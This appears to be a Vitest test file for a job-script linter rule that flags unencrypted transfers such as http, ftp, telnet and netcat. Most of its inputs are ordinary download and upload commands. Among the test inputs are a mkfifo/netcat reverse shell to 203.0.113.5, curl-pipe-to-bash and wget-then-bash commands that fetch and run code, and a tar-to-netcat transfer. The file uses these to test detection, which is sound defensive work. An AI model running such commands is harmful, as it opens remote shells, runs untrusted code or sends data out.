// JV404: unencrypted transfers of data.
import { describe, expect, it } from 'vitest';
import { applyEdits, check, job } from '../../support/check.ts';

function findings(body: string): string[] {
  return check(job(body))
    .findings.filter((finding) => finding.rule === 'JV404')
    .map((finding) => `${finding.severity}/${finding.confidence}`);
}

describe('JV404', () => {
  const medium: readonly (readonly [string, string])[] = [
    ['wget http', 'wget http://data.example.org/ds.tar'],
    ['curl http', 'curl -LO http://data.example.org/ds.tar'],
    ['curl without a scheme', 'curl -O data.example.org/ds.tar'],
    ['into tar', 'curl -s http://data.example.org/ds.tgz | tar xz'],
    ['ftp by wget', 'wget ftp://ftp.example.org/ds.gz'],
    ['ftp by its host name', 'curl -O ftp.example.org/ds.gz'],
    ['the address in variables', 'BASE=http://data.example.org\nF=ds.tar\nwget "$BASE/$F"'],
    ['an unknown file', 'wget "http://data.example.org/$F"'],
    ['a port', 'wget http://data.example.org:8080/ds.tar'],
    ['aria2c', 'aria2c -x8 http://data.example.org/ds.tar'],
    ['rsync daemon', 'rsync -a rsync://mirror.example/ds ./ds'],
    ['rsync module', 'rsync -a mirror.example::ds ./ds'],
    ['GridFTP', 'globus-url-copy -p 4 gsiftp://dtn.example.org/home/u/x file:///scratch/u/x'],
    ['GridFTP without channel authentication', 'globus-url-copy -nodcau gsiftp://dtn/home/u/x file:///scratch/u/x'],
    ['lftp', "lftp -c 'open ftp://data.example.org; mirror ds'"],
    ['lftp with a bare host', 'lftp -u anonymous, data.example.org'],
    ['tftp', 'tftp boot.example.org -c get x'],
    ['ftp', 'ftp -n data.example.org <<EOF\nget x\nEOF'],
    ['rcp', 'rcp dtn.example.org:x .'],
    ['telnet', 'telnet dtn.example.org'],
    ['rsh', 'rsh dtn.example.org hostname'],
    ['netcat as a pipe', 'tar c ds | nc dtn.example.org 9000'],
    ['netcat into a file', 'nc dtn.example.org 9000 > ds.tar'],
    ['redis', 'redis-cli -h cache.example.org get x'],
    ['redis by address', 'redis-cli -u redis://cache.example.org:6379 ping'],
    ['an endpoint of a store', 'aws --endpoint-url http://store.example.org s3 cp s3://b/x .'],
    [
      'requests',
      `python -c "import requests; open('x','wb').write(requests.get('http://data.example.org/x').content)"`,
    ],
  ];
  it.each(medium)('%s', (_name, body) => {
    expect(findings(body)).toEqual(['medium/high']);
  });

  const high: readonly (readonly [string, string])[] = [
    ['curl -T', 'curl -T results.tar http://data.example.org/in/'],
    ['curl -F', 'curl -F file=@results.tar http://data.example.org/in'],
    ['rsync', 'rsync -a results/ mirror.example::in'],
    ['GridFTP', 'globus-url-copy file:///scratch/u/x gsiftp://dtn.example.org/in/x'],
    ['ftp by curl', 'curl -T x ftp://ftp.example.org/in/'],
  ];
  it.each(high)('upload: %s', (_name, body) => {
    expect(findings(body)).toEqual(['high/high']);
  });

  it('is low where a checksum is compared', () => {
    expect(findings('wget http://data.example.org/ds.tar\nsha256sum -c ds.tar.sha256')).toEqual(['low/high']);
    expect(findings('aria2c --checksum=sha-256=abc http://data.example.org/ds.tar')).toEqual(['low/high']);
  });

  const silent: readonly (readonly [string, string])[] = [
    ['https', 'wget https://data.example.org/ds.tar'],
    ['localhost', 'curl http://localhost:8000/v1/models'],
    ['loopback', 'curl -s 127.0.0.1:8000/health'],
    ['the own host', 'curl -s http://$(hostname):8000/health'],
    ['the own host in a variable', 'HOST=$(hostname -i)\ncurl -s "http://$HOST:8000/health"'],
    ['a node of the list', 'curl -s http://$HEAD_NODE_IP:$PORT/health'],
    ['a node by Slurm', 'curl http://$SLURMD_NODENAME:9090/metrics -o m.txt'],
    [
      'a node by scontrol',
      'head=$(scontrol show hostnames "$SLURM_JOB_NODELIST" | head -n1)\ncurl "http://${head}:8080/x"',
    ],
    ['a private address', 'wget http://10.1.2.3/ds.tar'],
    ['a name of the cluster', 'wget http://repo01:8080/ds.tar'],
    ['.local', 'wget http://mirror.local/ds.tar'],
    ['.internal', 'wget http://mirror.hpc.internal/ds.tar'],
    ['the metadata address', 'curl -s http://169.254.169.254/latest/meta-data/instance-id'],
    ['a host that is not known', 'wget "$MIRROR/ds.tar"'],
    ['an argument', 'wget "http://$1/ds.tar"'],
    ['headers', 'curl -sI http://data.example.org'],
    ['a probe', 'wget -q --spider http://data.example.org'],
    ['an answer thrown away', 'curl -s -o /dev/null http://data.example.org'],
    ['rsync over ssh', 'rsync -a -e ssh user@dtn.example.org:/ds ./ds'],
    ['rsync module over ssh', 'rsync -a -e ssh dtn.example.org::ds ./ds'],
    ['local rsync', 'rsync -a ds/ /scratch/ds/'],
    ['scp', 'scp user@dtn.example.org:x .'],
    ['sftp', 'sftp user@dtn.example.org'],
    ['GridFTP with encryption', 'globus-url-copy -dcpriv gsiftp://dtn/home/u/x file:///scratch/u/x'],
    ['GridFTP over ssh', 'globus-url-copy sshftp://dtn/home/u/x file:///scratch/u/x'],
    ['ftp with TLS', 'curl --ssl-reqd -O ftp://ftp.example.org/x'],
    ['ftps', 'curl -O ftps://ftp.example.org/x'],
    ['lftp by sftp', 'lftp -c "open sftp://data.example.org; mirror ds"'],
    ['lftp with TLS forced', 'lftp -c "set ftp:ssl-force true; open data.example.org; mirror ds"'],
    ['a port probe', 'nc -z -w2 data.example.org 443'],
    ['a question to a server', 'echo ruok | nc zk.example.org 2181'],
    ['a probe by telnet', 'telnet data.example.org 443 </dev/null'],
    ['redis with TLS', 'redis-cli --tls -h cache.example.org ping'],
    ['own redis', 'redis-cli -h 127.0.0.1 ping'],
    ['redis on a node', 'redis-cli -h "$HEAD_NODE" ping'],
    [
      'an address as data',
      'export HF_HOME=/x DOC=http://docs.example.org\npython train.py --url http://docs.example.org',
    ],
    ['a proxy', 'export http_proxy=http://proxy.example.org:3128'],
  ];
  it.each(silent)('silent: %s', (_name, body) => {
    expect(findings(body)).toEqual([]);
  });

  it('leaves code to JV301 and JV405', () => {
    expect(findings('curl http://x.example.org/x.sh | bash')).toEqual([]);
    expect(findings('wget http://x.example.org/x.sh; bash x.sh')).toEqual([]);
  });

  it('offers https where it can work', () => {
    const text = job('wget "http://data.example.org/$F"\nwget http://data.example.org:8080/x');
    const edits = check(text).findings.flatMap((finding) => finding.fix?.edits ?? []);
    expect(applyEdits(text, edits)).toBe(
      job('wget "https://data.example.org/$F"\nwget http://data.example.org:8080/x'),
    );
  });
});

describe('JV404 and its neighbours', () => {
  const rules = (body: string): string[] =>
    check(job(body))
      .findings.filter(({ rule }) => rule !== 'JV311')
      .map(({ rule, severity }) => `${rule} ${severity}`);

  it.each([
    ['a repository of data', 'git clone http://x.example.com/data.git', ['JV404 medium']],
    ['the git protocol', 'git clone git://x.example.com/data.git d\nls d', ['JV404 medium']],
    ['a repository whose code runs', 'git clone http://x.example.com/t.git\nbash t/run.sh', ['JV405 high']],
    ['a repository that is installed', 'git clone git://x.example.com/t.git t\npip install -e t', ['JV405 high']],
    ['over ssh', 'git clone ssh://git@x.example.com/t.git', []],
    [
      'a shell at the other end',
      'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i | nc 203.0.113.5 4444 > /tmp/f',
      ['JV701 critical'],
    ],
    ['data at the other end', 'tar c d | nc 203.0.113.5 4444', ['JV404 medium']],
  ] as const)('%s', (_, body, expected) => {
    expect(rules(body)).toEqual(expected);
  });
});
